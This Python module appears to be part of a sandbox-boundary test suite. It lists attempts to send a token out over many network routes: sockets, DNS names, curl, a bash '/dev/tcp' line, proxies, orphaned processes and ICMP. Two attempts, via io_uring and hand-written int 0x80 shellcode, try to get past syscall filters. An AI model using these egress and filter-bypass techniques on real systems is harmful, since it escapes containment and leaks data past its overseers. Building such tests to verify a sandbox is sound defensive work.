"""Attempts over the network: sockets of every family, by every way to a system call."""

import ctypes
import mmap
import os
import shutil
import socket
import struct
import subprocess
import sys

from factory_resources.boundary.escapes.registry import World, attempt, require
from factory_resources.boundary.syscalls import MACHINE, call

_AF_PACKET, _AF_VSOCK, _AF_ALG, _AF_XDP = 17, 40, 38, 44
VISITED_PORT = 8099
"""Somebody outside calls this port of this machine, again and again."""
_MPTCP, _NETLINK_UEVENT = 262, 15
_DNS_QUESTION = b"\0\0\1\0\0\1\0\0\0\0\0\0"


def send(family: int, address: tuple[str, int] | str, content: bytes, protocol: int = 0) -> None:
    """Connect a stream socket, send and wait for an answer."""
    with socket.socket(family, socket.SOCK_STREAM, protocol) as one:
        one.settimeout(3)
        one.connect(address)
        one.sendall(content + b"\n")
        one.recv(1)


def _send_datagram(family: int, address: tuple[str, int], content: bytes) -> None:
    with socket.socket(family, socket.SOCK_DGRAM) as one:
        one.settimeout(3)
        one.sendto(content, address)
        one.recv(1)


@attempt("TCP by IPv4")
def tcp(world: World) -> None:
    send(socket.AF_INET, (world.address, 443), world.token.encode())


@attempt("TCP by IPv6")
def tcp_ipv6(world: World) -> None:
    send(socket.AF_INET6, (world.address_6, 443), world.token.encode())


@attempt("TCP to a database's port")
def tcp_database(world: World) -> None:
    send(socket.AF_INET, (world.address, 5432), world.token.encode())


@attempt("TCP to a service of this machine")
def tcp_loopback(world: World) -> None:
    send(socket.AF_INET, ("127.0.0.1", 8080), world.token.encode())


@attempt("multipath TCP")
def mptcp(world: World) -> None:
    send(socket.AF_INET, (world.address, 443), world.token.encode(), _MPTCP)


@attempt("UDP by IPv4")
def udp(world: World) -> None:
    _send_datagram(socket.AF_INET, (world.address, 443), world.token.encode())


@attempt("UDP by IPv6")
def udp_ipv6(world: World) -> None:
    _send_datagram(socket.AF_INET6, (world.address_6, 443), world.token.encode())


@attempt("a name, resolved by the system")
def dns(world: World) -> None:
    socket.getaddrinfo(f"{world.token}.example.org", 443)


@attempt("a name, asked of a resolver by UDP")
def dns_by_hand(world: World) -> None:
    label = world.token.encode()
    question = _DNS_QUESTION + bytes([len(label)]) + label + b"\7example\3org\0\0\1\0\1"
    _send_datagram(socket.AF_INET, (world.address, 53), question)


@attempt("curl")
def curl(world: World) -> None:
    _run("curl", "-sS", "-m", "3", f"http://{world.address}/{world.token}")


@attempt("/dev/tcp of bash")
def bash(world: World) -> None:
    _run("bash", "-c", f"echo {world.token} > /dev/tcp/{world.address}/80")


@attempt("a proxy that the environment names, in another Python")
def proxy(world: World) -> None:
    script = f"import urllib.request as u; u.urlopen('http://example.org/{world.token}', timeout=3)"
    environment = {**os.environ, "http_proxy": f"http://{world.address}:8080"}
    subprocess.run(
        [sys.executable, "-I", "-c", script], check=True, env=environment, capture_output=True
    )


def _run(program: str, *arguments: str) -> None:
    found = shutil.which(program)
    require(found is not None, f"there is no {program}")
    subprocess.run([found or program, *arguments], check=True, capture_output=True)


@attempt("connect of the C library")
def ctypes_connect(world: World) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    one = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", 443, _packed(world))
    require(one >= 0 and libc.connect(one, address, len(address)) == 0, "connect")
    require(libc.write(one, world.token.encode() + b"\n", len(world.token) + 1) > 0, "write")


@attempt("a child that outlives its parent")
def orphan(world: World) -> None:
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            tcp(world)
        os._exit(0)
    os.waitpid(child, 0)


@attempt("a service that somebody outside calls")
def listener(world: World) -> None:
    with socket.create_server(("127.0.0.1", VISITED_PORT)) as door:
        door.settimeout(2)
        visitor, _ = door.accept()
        visitor.sendall(world.token.encode())


@attempt("a ping", proof="returned")
def ping(world: World) -> None:
    _ping(world, socket.SOCK_DGRAM)


@attempt("a ping by a raw socket", proof="returned")
def ping_raw(world: World) -> None:
    _ping(world, socket.SOCK_RAW)


def _ping(world: World, kind: int) -> None:
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as one:
        one.settimeout(3)
        body = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + world.token.encode().ljust(64)
        words = sum(struct.unpack(f"!{len(body) // 2}H", body))
        words = (words >> 16) + (words & 0xFFFF)
        checksum = ~(words + (words >> 16)) & 0xFFFF
        one.sendto(body[:2] + struct.pack("!H", checksum) + body[4:], (world.address, 0))
        one.recv(1024)


@attempt("a packet socket", proof="returned")
def packet(_: World) -> None:
    socket.socket(_AF_PACKET, socket.SOCK_RAW, 0).close()


@attempt("a socket to the hypervisor", proof="returned")
def vsock(_: World) -> None:
    socket.socket(_AF_VSOCK, socket.SOCK_STREAM).close()


@attempt("a socket of the kernel's cryptography", proof="returned")
def alg(_: World) -> None:
    socket.socket(_AF_ALG, socket.SOCK_SEQPACKET).close()


@attempt("a socket past the network stack (XDP)", proof="returned")
def xdp(_: World) -> None:
    socket.socket(_AF_XDP, socket.SOCK_RAW).close()


@attempt("messages of the kernel's devices", proof="returned")
def netlink(_: World) -> None:
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, _NETLINK_UEVENT).close()


@attempt("io_uring, which opens sockets past a filter", proof="returned")
def io_uring(_: World) -> None:
    os.close(call("io_uring_setup", 1, bytes(120)))


@attempt("a system call of 32-bit programs", proof="returned")
def int_80(_: World) -> None:
    require(MACHINE == "x86_64", "x86-64 only")
    # push rbx; eax = socket, ebx = AF_PACKET, ecx = SOCK_RAW, edx = 0; int 0x80; pop rbx; ret
    registers = ((0xB8, 359), (0xBB, _AF_PACKET), (0xB9, socket.SOCK_RAW), (0xBA, 0))
    code = b"\x53" + b"".join(struct.pack("<BI", *one) for one in registers) + b"\xcd\x80\x5b\xc3"
    with mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC) as memory:
        memory.write(code)
        start = ctypes.c_char.from_buffer(memory)
        result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(start))()
        del start
    require(result >= 0, os.strerror(-result))


def _packed(world: World) -> bytes:
    return socket.inet_aton(world.address)
